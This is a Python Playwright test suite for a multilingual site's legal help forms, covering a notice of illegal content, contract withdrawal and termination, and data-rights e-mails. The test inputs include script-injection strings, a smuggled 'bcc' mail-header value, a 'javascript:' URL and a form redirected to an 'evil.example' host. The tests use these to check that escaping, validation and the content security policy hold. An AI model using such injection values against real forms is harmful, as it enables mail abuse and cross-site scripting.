"""Forms in Chromium: posted to a real endpoint under the shipped policy, or made an e-mail."""

from __future__ import annotations

import json
import re
import shutil
import ssl
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from functools import partial
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

import pytest
import trustme
from playwright.sync_api import Browser, Page, expect

from hooks.publish import headers
from tests.browser import place
from tests.browser.place import LOCALES, path_of
from tests.browser.reader import NARROW, Reader
from tests.browser.test_axe import SCHEMES, objections
from tests.browser.test_without_script import tab_to

SAMPLE = "https://platform.visual.example"
HOSTILE = 'Zoë <script>alert(1)</script> & "quote" \' % + ?bcc=x@evil.example # \u202e'
ERRORS = {
    "fr": ("6 réponses demandent votre attention", "Choisissez de quoi il s’agit."),
    "en": ("6 answers need your attention", "Choose what it is about."),
    "es": ("6 respuestas requieren su atención", "Elija de qué se trata."),
}
CONFIRM = {
    "fr": "Confirmer la rétractation",
    "en": "Confirm withdrawal",
    "es": "Confirmar desistimiento",
}
DAY = {"fr": "20 novembre 2026", "en": "20 November 2026", "es": "20 de noviembre de 2026"}
OPENED = """() => {
    window.opened = [];
    HTMLAnchorElement.prototype.click = function () { window.opened.push(this.href); };
}"""
"""A browser without a mail program: what would be handed to one is noted."""


@dataclass
class Platform:
    """An endpoint that notes what it is sent."""

    url: str = ""
    posts: list[tuple[str, dict[str, list[str]]]] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def answer(self, handler: BaseHTTPRequestHandler) -> None:
        self.asked.append(f"{handler.command} {handler.path}")
        if handler.command == "POST":
            body = handler.rfile.read(int(handler.headers["Content-Length"])).decode()
            self.posts.append((handler.path, parse_qs(body, strict_parsing=True)))
        page = b"<!doctype html><html lang=en><title>Received</title><h1>Received</h1>"
        handler.send_response(200)
        handler.send_header("Content-Type", "text/html; charset=utf-8")
        handler.send_header("Content-Length", str(len(page)))
        handler.end_headers()
        handler.wfile.write(page)


@pytest.fixture(scope="module")
def platform(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Platform]:
    made = Platform()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            made.answer(self)

        def do_GET(self) -> None:
            made.answer(self)

        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    folder = tmp_path_factory.mktemp("platform")
    trustme.CA().issue_cert("127.0.0.1").private_key_and_cert_chain_pem.write_to_path(
        folder / "server.pem"
    )
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "server.pem")
    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        server.socket = context.wrap_socket(server.socket, server_side=True)
        made.url = f"https://127.0.0.1:{server.server_port}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield made
        server.shutdown()


class _Policed(place._Files):
    """The site's files, under the policy that the shipped nginx gives them."""

    def end_headers(self) -> None:
        data = json.loads(Path(self.directory, ".nginx/policy.json").read_bytes())
        rules = [headers.Rule(one["pattern"], one["headers"]) for one in data["rules"]]
        said = headers.said(rules, self.path)[headers.CSP]
        # Served without TLS here, and then a policy does not ask for it.
        self.send_header(headers.CSP, said.replace("; upgrade-insecure-requests", ""))
        super().end_headers()


@pytest.fixture(scope="module")
def posting(
    built: Path, platform: Platform, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[str]:
    """The built site, its sample endpoints in place of which a real one listens."""
    site = tmp_path_factory.mktemp("posting") / "site"
    shutil.copytree(built / "site", site)
    for file in [*site.glob("**/help/forms/*/index.html"), site / ".nginx/policy.json"]:
        text = file.read_text(encoding="utf-8")
        file.write_text(text.replace(SAMPLE, platform.url), encoding="utf-8")
    with ThreadingHTTPServer(("127.0.0.1", 0), partial(_Policed, directory=str(site))) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield f"http://127.0.0.1:{server.server_port}"
        server.shutdown()


class Sender(Reader):
    """A reader whose forms may reach the platform."""

    platform = ""

    def asked(self, url: str) -> None:
        if not url.startswith((f"{self.platform}/", "mailto:")):
            super().asked(url)


@pytest.fixture
def sender(chromium: Browser, posting: str, platform: Platform) -> Iterator[Sender]:
    platform.posts.clear()
    platform.asked.clear()
    reader = Sender(chromium, posting)
    reader.platform = platform.url
    yield reader
    reader.close()


def opened(sender: Sender, locale: str, name: str, **options: Any) -> Page:
    return sender.open(path_of(locale, f"help/forms/{name}/"), ignore_https_errors=True, **options)


def notice(page: Page) -> dict[str, list[str]]:
    """Answer the notice of illegal content; what is to arrive."""
    page.locator("#category").select_option("fraud")
    page.locator("#address").fill("https://visual.example/watch/1?t=2#a")
    page.locator("#reasons").fill(f"{HOSTILE}\nsecond line")
    page.locator("#name").fill(HOSTILE)
    page.locator("#email").fill("zoe@example.org")
    page.locator("#good_faith").check()
    return {
        "category": ["fraud"],
        "address": ["https://visual.example/watch/1?t=2#a"],
        "reasons": [f"{HOSTILE}\r\nsecond line"],
        "name": [HOSTILE],
        "email": ["zoe@example.org"],
        "good_faith": ["yes"],
        "copy": ["yes"],
        "form": ["notice"],
    }


@pytest.mark.parametrize("script", [True, False], ids=["script", "no script"])
@pytest.mark.parametrize("locale", LOCALES)
def test_a_notice_arrives_as_it_was_written(
    sender: Sender, platform: Platform, locale: str, script: bool
) -> None:
    page = opened(sender, locale, "notice", java_script_enabled=script)
    wanted = notice(page)
    page.locator(".form [type=submit]").click()
    expect(page.locator("h1")).to_have_text("Received")
    [(path, told)] = platform.posts
    blank = {name: value for name, value in told.items() if value != [""]}
    assert (path, blank) == ("/forms/notice", wanted | {"lang": [locale]})


def test_nothing_personal_is_in_an_address(sender: Sender, platform: Platform) -> None:
    page = opened(sender, "en", "notice")
    notice(page)
    page.locator(".form [type=submit]").click()
    expect(page.locator("h1")).to_have_text("Received")
    assert page.url == f"{platform.url}/forms/notice"
    assert [one for one in platform.asked if one.startswith("POST")] == ["POST /forms/notice"]
    page.go_back()
    assert urlsplit(page.url).query == ""
    expect(page.locator("#reasons")).to_have_value(f"{HOSTILE}\nsecond line")


def test_the_policy_lets_a_form_go_to_its_own_address_only(
    sender: Sender, platform: Platform
) -> None:
    sender.expected = (*sender.expected, "form-action")
    page = opened(sender, "en", "notice")
    refused = page.evaluate(
        """() => new Promise((done) => {
            document.addEventListener("securitypolicyviolation", (event) =>
                done([event.effectiveDirective, event.blockedURI]));
            const form = document.querySelector("form[data-form]");
            form.action = "https://evil.example/";
            form.submit();
        })"""
    )
    assert refused == ["form-action", "https://evil.example/"]
    assert platform.posts == []


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize("locale", LOCALES)
def test_errors_are_told_in_the_readers_language(
    sender: Sender, platform: Platform, locale: str, scheme: str
) -> None:
    page = opened(sender, locale, "notice", color_scheme=scheme, viewport=NARROW)
    page.locator("#place").fill("1:20")
    page.locator(".form [type=submit]").click()
    summary = page.locator("[data-errors]")
    expect(summary).to_be_focused()
    expect(summary).to_have_accessible_name(ERRORS[locale][0])
    expect(summary.get_by_role("link")).to_have_count(6)
    expect(page.locator("#category")).to_have_accessible_description(
        re.compile(re.escape(ERRORS[locale][1]))
    )
    expect(page.locator("#category")).to_have_attribute("aria-invalid", "true")
    expect(page.locator("#place")).to_have_value("1:20")
    assert objections(page) == ""
    summary.get_by_role("link").first.click()
    expect(page.locator("#category")).to_be_focused()
    page.locator("#category").select_option("hate")
    expect(page.locator("#category-error")).to_be_hidden()
    assert page.locator("#category").get_attribute("aria-invalid") is None
    assert platform.posts == []


@pytest.mark.parametrize("bad", ["zoe", "zoe@", "zoe@example", "a b@example.org", "@example.org"])
def test_an_address_that_is_none_is_told(sender: Sender, platform: Platform, bad: str) -> None:
    page = opened(sender, "en", "notice")
    notice(page)
    page.locator("#email").fill(bad)
    page.locator("#address").fill("javascript:alert(1)")
    page.locator(".form [type=submit]").click()
    expect(page.locator("#email-error")).to_contain_text("This e-mail address is not complete.")
    expect(page.locator("#address-error")).to_contain_text("It begins with https://")
    expect(page.locator("#email")).to_have_value(bad.strip())
    assert platform.posts == []


@pytest.mark.parametrize("script", [True, False], ids=["script", "no script"])
def test_an_offence_against_a_minor_can_be_reported_without_a_name(
    sender: Sender, platform: Platform, script: bool
) -> None:
    page = opened(sender, "en", "notice", java_script_enabled=script)
    page.locator("#category").select_option("child_abuse")
    page.locator("#address").fill("https://visual.example/watch/1")
    page.locator("#reasons").fill("Seen there.")
    page.locator("#good_faith").check()
    page.locator(".form [type=submit]").click()
    expect(page.locator("h1")).to_have_text("Received")
    assert not {"name", "email"} & {name for name, said in platform.posts[0][1].items() if said[0]}


def withdraw(page: Page) -> None:
    page.locator("#name").fill(HOSTILE)
    page.locator("#contract").fill("A-12")
    page.locator("#ordered").fill("2026-11-20")
    page.locator("#email").fill("zoe@example.org")


@pytest.mark.parametrize("locale", LOCALES)
def test_a_withdrawal_is_shown_again_then_confirmed(
    sender: Sender, platform: Platform, locale: str
) -> None:
    page = opened(sender, locale, "withdrawal")
    withdraw(page)
    expect(page.get_by_role("button", name=CONFIRM[locale])).to_have_count(0)
    page.locator(".form [type=submit]").click()
    expect(page.locator("#form-review")).to_be_focused()
    expect(page.locator("[data-step=review] dd").first).to_have_text(HOSTILE)
    expect(page.locator("[data-step=review] dd").nth(2)).to_have_text(DAY[locale])
    assert page.locator("[data-step=review] script").count() == 0
    assert objections(page) == ""
    assert platform.posts == []
    page.locator("[data-change]").click()
    expect(page.locator("#name")).to_be_focused()
    page.locator("#contract").fill("A-13")
    page.locator(".form [type=submit]").click()
    page.get_by_role("button", name=CONFIRM[locale]).click()
    expect(page.locator("h1")).to_have_text("Received")
    [(_, told)] = platform.posts
    assert (told["contract"], told["read_over"], told["lang"]) == (["A-13"], ["yes"], [locale])
    assert (told["name"], told["copy"]) == ([HOSTILE], ["yes"])
    assert told["ordered"] == ["2026-11-20"]


def test_without_script_a_withdrawal_is_confirmed_by_a_tick(
    sender: Sender, platform: Platform
) -> None:
    page = opened(sender, "fr", "withdrawal", java_script_enabled=False)
    withdraw(page)
    button = page.get_by_role("button", name=CONFIRM["fr"])
    button.click()
    assert platform.posts == []
    page.locator("#read_over").check()
    button.click()
    expect(page.locator("h1")).to_have_text("Received")
    assert platform.posts[0][1]["read_over"] == ["yes"]


@pytest.mark.parametrize("script", [True, False], ids=["script", "no script"])
def test_a_termination_is_given_by_keyboard_alone(
    sender: Sender, platform: Platform, script: bool
) -> None:
    page = opened(sender, "en", "termination", java_script_enabled=script)
    page.locator("main").focus()
    for name, words in (("name", "Zoë"), ("email", "zoe@example.org"), ("contract", "A-12")):
        tab_to(page, f"#{name}")
        page.keyboard.type(words)
    if script:
        tab_to(page, ".form [type=submit]")
        page.keyboard.press("Enter")
        expect(page.locator("#form-review")).to_be_focused()
    else:
        tab_to(page, "#read_over")
        page.keyboard.press("Space")
    tab_to(page, ".form [type=submit]")
    expect(page.locator(".form [type=submit]")).to_have_text("Notification of termination")
    page.keyboard.press("Enter")
    expect(page.locator("h1")).to_have_text("Received")
    assert platform.posts[0][1]["contract"] == ["A-12"]


# --- Where no address takes the answers -----------------------------------------------------------


def asked_for_data(page: Page, details: str = "") -> None:
    page.evaluate(OPENED)
    page.locator("#right").select_option("erasure")
    page.locator("#details").fill(details)
    page.locator("#name").fill(HOSTILE)
    page.locator("#email").fill("zoe@example.org")
    page.locator(".form [type=submit]").click()


@pytest.mark.parametrize("scheme", SCHEMES)
@pytest.mark.parametrize(
    ("locale", "subject", "line"),
    [
        ("fr", "Demande sur mes données personnelles", "Ce que vous demandez\u00a0: Effacement"),
        ("en", "Request about my personal data", "What you ask for: Erasure"),
        ("es", "Solicitud sobre mis datos personales", "Lo que solicita: Supresión"),
    ],
)
def test_answers_become_an_e_mail(
    sender: Sender, locale: str, subject: str, line: str, scheme: str
) -> None:
    page = opened(sender, locale, "rights", color_scheme=scheme)
    asked_for_data(page, "all of it")
    expect(page.locator("#form-ready")).to_be_focused()
    [link] = page.evaluate("window.opened")
    begun, _, query = link.partition("?")
    told = parse_qs(query, strict_parsing=True)
    assert begun == "mailto:privacy@visual.example"
    assert (told["subject"], told["cc"]) == ([subject], ["zoe@example.org"])
    assert set(told) == {"subject", "cc", "body"}
    lines = told["body"][0].split("\r\n")
    assert line in lines
    assert [one for one in lines if HOSTILE in one]
    expect(page.locator("#message")).to_have_value("\n".join(lines))
    expect(page.locator("[data-too-long]")).to_be_hidden()
    assert objections(page) == ""


def test_who_wants_no_copy_is_not_put_in_copy(sender: Sender) -> None:
    page = opened(sender, "en", "rights")
    page.locator("#copy").uncheck()
    asked_for_data(page)
    assert "cc=" not in page.evaluate("window.opened")[0]


def test_an_e_mail_too_long_to_open_is_offered_for_copying(sender: Sender) -> None:
    page = opened(sender, "en", "rights")
    page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    asked_for_data(page, "été " * 1000)
    expect(page.locator("[data-too-long]")).to_be_visible()
    expect(page.locator("[data-opened]")).to_be_hidden()
    assert page.evaluate("window.opened") == []
    page.locator("[data-copy-message]").click()
    expect(page.locator("[data-copied]")).to_have_text("Copied")
    text = page.evaluate("navigator.clipboard.readText()")
    assert text.replace("\r\n", "\n") == page.locator("#message").input_value()
    assert text.count("été") == 1000
    page.locator("[data-back]").click()
    expect(page.locator("#details")).to_have_value("été " * 1000)


@pytest.mark.parametrize("locale", LOCALES)
def test_without_script_the_e_mail_is_begun_by_a_link(sender: Sender, locale: str) -> None:
    page = opened(sender, locale, "rights", java_script_enabled=False)
    expect(page.locator("form[data-form]")).to_be_hidden()
    link = page.locator("[data-by-hand] a")
    expect(link).to_be_visible()
    expect(page.locator("[data-by-hand] pre")).to_be_visible()
    expect(page.locator("[data-by-hand]")).to_contain_text("75000 Paris")
    assert "RGPD" in unquote(link.get_attribute("href") or "") or locale == "en"
